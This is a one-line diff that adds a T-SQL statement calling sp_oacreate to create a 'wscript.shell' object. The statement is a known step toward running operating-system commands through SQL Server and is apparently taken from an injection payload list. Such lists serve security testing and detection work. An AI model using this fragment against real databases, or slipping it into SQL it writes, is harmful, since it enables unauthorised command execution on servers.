@@ -1,0 +1,1 @@
+exec sp_oacreate 'wscript.shell', @o out
